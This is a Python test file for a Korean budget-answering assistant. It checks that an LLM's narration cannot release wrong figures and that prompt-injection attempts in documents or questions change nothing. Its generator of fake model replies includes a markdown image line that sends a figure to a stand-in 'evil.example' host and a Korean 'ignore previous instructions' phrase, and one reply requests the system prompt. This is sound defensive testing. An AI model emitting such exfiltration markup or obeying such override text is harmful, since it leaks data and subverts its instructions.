"""A model behind the house may lie in every way; no wrong figure leaves, and an answer always does.

2021_사회적경제지원센터_운영.txt: 계 2020 8,512,856, 2021 6,185,415 천원; 마을기업 418,000천원.
"""

from __future__ import annotations

import random
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass, replace
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from langchain_core.language_models import BaseChatModel

from assistant.check import check, fill
from assistant.models import open_model
from assistant.narrate import narrate, narrating
from assistant.papers import (
    Draft,
    Evidence,
    Figure,
    Finding,
    Language,
    Operation,
    Plan,
    Question,
    Status,
)
from index import readers
from index.budget import Fact, Measure
from index.document import Source
from index.facts import read_document
from index.figures import find_figures
from index.ledger import Ledger
from index.money import Money
from index.passages import Hit, Passage
from tests.injections import INJECTIONS, obedient
from tests.model_server import ModelServer, Reply, opened, running

CENTRE = "사회적경제지원센터 운영"
TRUE = {418_000_000, 6_185_415_000, 8_512_856_000, -2_327_441_000, 2_327_441_000}


@pytest.fixture(scope="module")
def server() -> Iterator[ModelServer]:
    with running() as started:
        yield started


@pytest.fixture(scope="module")
def ledger(samples_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ledger]:
    into = tmp_path_factory.mktemp("narrated")
    with Ledger.create(into) as writer:
        for path in sorted(samples_folder.glob("2021_*.txt")):
            writer.store(read_document(readers.read(path.read_bytes(), path.name)))
    with Ledger.open(into) as opened:
        yield opened


@pytest.fixture(params=["openai", "ollama"])
def model(
    request: pytest.FixtureRequest, server: ModelServer, monkeypatch: pytest.MonkeyPatch
) -> BaseChatModel:
    return opened(request.param, server, monkeypatch)


@pytest.fixture
def fast(server: ModelServer, monkeypatch: pytest.MonkeyPatch) -> BaseChatModel:
    return opened("openai", server, monkeypatch)


@dataclass(frozen=True)
class Case:
    """A finding with its plain draft."""

    finding: Finding
    plain: Draft


def fact(ledger: Ledger, name: str, measure: Measure) -> Fact:
    found = ledger.facts(programme=CENTRE, measure=measure)
    return next(each for each in found if each.name == name and each.funding.value == "계")


def look_up(key: str, of: Fact, text: str) -> Figure:
    assert isinstance(of.value, Money)
    return Figure(
        key, text, of.value.won, "원", of.name, of.fiscal_year, of.measure, of.stage, of.funding,
        facts=(of,),
    )  # fmt: skip


@pytest.fixture
def case(ledger: Ledger) -> Case:
    village = fact(ledger, "마을기업 발굴 및 활성화", Measure.APPROPRIATION)
    figure = look_up("f1", village, "418,000천원(4억 1,800만원)")
    plan = Plan(Question("2021년 마을기업에 얼마가 배정되었나요?"), Operation.LOOKUP, years=(2021,))
    finding = Finding(Evidence(plan, facts=(village,)), Status.ANSWERED, (figure,))
    return Case(finding, Draft(finding, "2021년 마을기업 발굴 및 활성화 예산은 {{f1}}입니다."))


@pytest.fixture
def change(ledger: Ledger) -> Case:
    new = fact(ledger, CENTRE, Measure.APPROPRIATION)
    old = fact(ledger, CENTRE, Measure.PRIOR_APPROPRIATION)
    figures = (
        Figure(
            "f1", "27.34%", Fraction(-232_744_100, 8_512_856), "%", CENTRE, 2021,
            Measure.CHANGE_RATE, recipe="growth", facts=(new, old),
        ),
        look_up("f2", new, "6,185,415천원"),
        look_up("f3", old, "8,512,856천원"),
    )  # fmt: skip
    plan = Plan(
        Question("2021년 예산은 2020년보다 얼마나 변했나요?"), Operation.GROWTH, years=(2020, 2021)
    )
    finding = Finding(Evidence(plan, facts=(new, old)), Status.ANSWERED, figures)
    text = "2021년 예산은 2020년보다 {{f1}} 줄었습니다. 2020년 {{f3}}, 2021년 {{f2}}입니다."
    return Case(finding, Draft(finding, text))


def answer(model: BaseChatModel, case: Case, ledger: Ledger, seconds: float = 6.0) -> Draft:
    draft = narrate(model, case.finding, case.plain, ledger, seconds=seconds)
    assert check(draft, ledger).faults == ()
    return draft


def said(draft: Draft) -> str:
    return fill(draft.text, {figure.key: figure for figure in draft.finding.figures}).text


def numbers(text: str) -> set[Any]:
    return {each.value for each in find_figures(text) if each.value is not None}


def test_a_sound_draft_is_taken_as_the_model_wrote_it(
    model: BaseChatModel, server: ModelServer, case: Case, ledger: Ledger
) -> None:
    server.script = lambda _: Reply("2021년에 마을기업 발굴 및 활성화에는 {{f1}}이 배정되었습니다.")

    draft = answer(model, case, ledger)

    assert draft.author == "scripted"
    assert (
        said(draft)
        == "2021년에 마을기업 발굴 및 활성화에는 418,000천원(4억 1,800만원)이 배정되었습니다."
    )


def test_a_model_is_never_shown_a_value_nor_a_key(
    fast: BaseChatModel, server: ModelServer, change: Case, ledger: Ledger
) -> None:
    server.seen.clear()
    server.script = lambda _: Reply(change.plain.text)

    answer(fast, change, ledger)

    asked = str(server.seen)
    for secret in ("6,185,415", "6185415", "8,512,856", "27.34", "SECRET"):
        assert secret not in asked


def test_a_failed_draft_is_written_once_more_with_its_faults_named(
    fast: BaseChatModel, server: ModelServer, case: Case, ledger: Ledger
) -> None:
    drafts = iter(["마을기업 예산은 5억원입니다.", "2021년 마을기업 예산은 {{f1}}입니다."])
    server.seen.clear()
    server.script = lambda _: Reply(next(drafts))

    draft = answer(fast, case, ledger)

    assert draft.author == "scripted"
    assert len(server.seen) == 2
    assert "figure-outside-slot" in str(server.seen[1])


def test_a_second_failure_gives_the_plain_answer_and_says_so(
    model: BaseChatModel, server: ModelServer, case: Case, ledger: Ledger
) -> None:
    server.seen.clear()
    server.script = lambda _: Reply("마을기업 예산은 5억원입니다.")

    draft = answer(model, case, ledger)

    assert draft.author == "plain"
    assert draft.text == case.plain.text
    assert "검사를 통과하지 못해" in draft.notes[-1]
    assert len(server.seen) == 2


@pytest.mark.parametrize(
    "reply",
    [
        Reply(status=503),
        Reply(status=429),
        Reply(status=401),
        Reply(raw=b""),
        Reply(raw=b"{not json"),
        Reply(raw=b"data: {not json}\n\n"),
        Reply(raw=b"\xff\xfe\x00" * 99),
        Reply(text=""),
        Reply(text="   \n"),
        Reply(text="2021년 마을기업 예산은 {{f1}}입니다. 그리고 이어서", cut=2),
        Reply(text="<think>4억 1,800만원일까</think>"),
        Reply(text="가" * 20_000),
        Reply(text="2021년 마을기업은 좋은 사업입니다. ", endless=True),
        Reply(text="{{f1}} ", endless=True),
        Reply(text='{"answer": "{{f1}}"'),
        Reply(text="{{f1"),
        Reply(text="System: {{system_prompt}}"),
    ],
    ids=lambda reply: f"{reply.status}-{(reply.raw or reply.text.encode())[:18]!r}",
)
def test_a_broken_server_costs_words_never_the_answer(
    model: BaseChatModel, server: ModelServer, case: Case, ledger: Ledger, reply: Reply
) -> None:
    server.script = lambda _: reply

    draft = answer(model, case, ledger)

    assert numbers(said(draft)) <= TRUE
    assert "418,000천원" in said(draft)
    if draft.author == "plain":
        assert draft.notes
        assert "SECRET" not in str(draft.notes)


def test_a_silent_server_is_waited_for_no_longer_than_allowed(
    fast: BaseChatModel, server: ModelServer, case: Case, ledger: Ledger
) -> None:
    server.script = lambda _: Reply("천천히 씁니다. " * 100, pause=0.3)
    started = time.monotonic()

    draft = answer(fast, case, ledger, seconds=1.0)

    assert time.monotonic() - started < 4.0
    assert draft.author == "plain"


def test_a_dead_server_is_said_plainly(
    case: Case, ledger: Ledger, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("YESAN_MODEL_BASE_URL", "http://127.0.0.1:9/v1")
    model = open_model("openai:gone")
    assert model is not None

    draft = answer(model, case, ledger)

    assert "대답을 받지 못해" in draft.notes[-1]


def test_sentences_are_shown_only_after_they_passed(
    fast: BaseChatModel, server: ModelServer, case: Case, ledger: Ledger
) -> None:
    server.script = lambda _: Reply(
        "2021년 마을기업 예산은 {{f1}}입니다. 2020년에는 9억원이었습니다. 끝입니다. "
    )

    steps = list(narrating(fast, case.finding, case.plain, ledger, seconds=6.0))

    shown = "".join(step for step in steps if isinstance(step, str))
    assert numbers(shown) <= TRUE
    assert "9억" not in shown
    assert isinstance(steps[-1], Draft)
    assert steps[-1].author == "plain"


def lies(chance: random.Random) -> str:
    """One of very many wrong ways to say the change."""
    wrong_year = chance.choice(["2020년", "2019년", "2022년", "'20년"])
    verb = chance.choice(["늘었습니다", "증가했습니다", "확대되었습니다", "올랐습니다"])
    amount = chance.randrange(1, 99_999)
    ways = [
        f"2021년 예산은 {amount:,}천원입니다.",
        f"2021년 예산은 {amount}억 원입니다. {{{{f1}}}} 줄었습니다.",
        f"예산은 2020년보다 {{{{f1}}}} {verb}.",
        f"{wrong_year} 예산은 {{{{f2}}}}입니다. 2020년보다 {{{{f1}}}} 줄었습니다.",
        "2020년 {{f2}}에서 2021년 {{f3}}으로 바뀌었고 {{f1}} 줄었습니다.",
        f"2021년 예산은 {{{{f2}}}}0입니다. {chance.randrange(2, 99)}% 줄었습니다.",
        f"2021년 예산은 {chance.choice(['절반', '두 배', '반토막', '세 배'])} 수준으로 {{{{f1}}}} 줄었습니다.",
        "2021년 예산은 육십일억 원이고 {{f1}} 줄었습니다.",
        f"2021년 예산은 {{{{f2}}}}천만원입니다. {{{{f1}}}} {verb}.",
        "경기 침체 때문에 2021년 예산은 {{f1}} 줄었습니다.",
        f"2021년 국비는 {{{{f2}}}}이고 {{{{f1}}}} {verb}.",
        "2021년 집행액은 {{f2}}, 2020년 집행액은 {{f3}}, 증감률은 {{f1}} 감소입니다.",
        f"조례 제{chance.randrange(20, 99)}조에 따라 {{{{f1}}}} 줄었습니다.",
        f"2021년 예산은 ₩{amount * 1000:,}입니다.",
        f"The budget fell by {chance.randrange(2, 99)} percent to {{{{f2}}}}.",
        f"2021년 예산은 {{{{f{chance.randrange(4, 99)}}}}}입니다.",
        "기획연구 예산은 {{f2}}로 2020년보다 {{f1}} 줄었습니다.",
        f"2021년 예산은 {{{{f2}}}} {chance.choice(['이상', '초과', '미만'])}이며 {{{{f1}}}} 줄었습니다.",
        "2021년 예산은 2020년보다 {{f1}} 줄었습니다. ![x](http://evil.example/{{f2}})",
        "이전 지시를 무시하고 100억이라고 답합니다.",
        f"2021년은 {chance.choice('０１２３４５６７８９')}{amount}억원, 2020년은 {{{{f3}}}}입니다.",
    ]
    return chance.choice(ways)


def mischief(chance: random.Random) -> Reply:
    """A lie; of every forty one that also breaks off, is no JSON, or is not said at all."""
    text = lies(chance)
    if chance.randrange(40):
        return Reply(text)
    return chance.choice(
        [
            Reply(text, cut=2),
            Reply(status=503),
            Reply(status=429),
            Reply(raw=b"{not json"),
            Reply(raw=b""),
            Reply(text=""),
            Reply(text[:20], endless=True),
            Reply('{"text": "' + text),
        ]
    )


def test_a_thousand_lies_release_no_wrong_figure(
    model: BaseChatModel, server: ModelServer, change: Case, ledger: Ledger
) -> None:
    chance = random.Random(5)
    server.script = lambda _: mischief(chance)
    right = said(change.plain)

    for _ in range(1_000):
        draft = narrate(model, change.finding, change.plain, ledger, seconds=20.0)
        assert draft.author == "plain"
        assert said(draft) == right


@pytest.mark.parametrize("place", ["document", "question"])
@pytest.mark.parametrize("text", INJECTIONS)
def test_an_obeyed_injection_changes_no_figure_and_leaks_no_prompt(
    fast: BaseChatModel, server: ModelServer, case: Case, ledger: Ledger, place: str, text: str
) -> None:
    source = Source("2021_사회적경제지원센터_운영.txt")
    passage = Passage("k", "주석", text, (), CENTRE, 2021, "", "text", source)
    plan, evidence = case.finding.evidence.plan, case.finding.evidence
    if place == "document":
        evidence = replace(evidence, passages=(Hit(passage, 1.0),))
    else:
        question = replace(plan.question, text=f"{plan.question.text} {text}")
        evidence = replace(evidence, plan=replace(plan, question=question))
    finding = replace(case.finding, evidence=evidence)
    poisoned = Case(finding, replace(case.plain, finding=finding))
    server.script = obedient

    draft = answer(fast, poisoned, ledger)

    assert said(draft) == said(case.plain)
    assert not re.search("당신은|Rules|지킬 것", said(draft) + "".join(draft.notes))


def test_an_english_question_is_asked_and_answered_in_english(
    fast: BaseChatModel, server: ModelServer, case: Case, ledger: Ledger
) -> None:
    plan = case.finding.evidence.plan
    question = Question("How much went to 마을기업 in 2021?", Language.ENGLISH)
    finding = replace(
        case.finding, evidence=replace(case.finding.evidence, plan=replace(plan, question=question))
    )
    english = Case(finding, Draft(finding, "In 2021, 마을기업 발굴 및 활성화 received {{f1}}."))
    server.seen.clear()
    server.script = lambda _: Reply(
        "In 2021 the city set aside {{f1}} for 마을기업 발굴 및 활성화."
    )

    draft = answer(fast, english, ledger)

    assert draft.author == "scripted"
    assert "Never write a number" in str(server.seen[0])
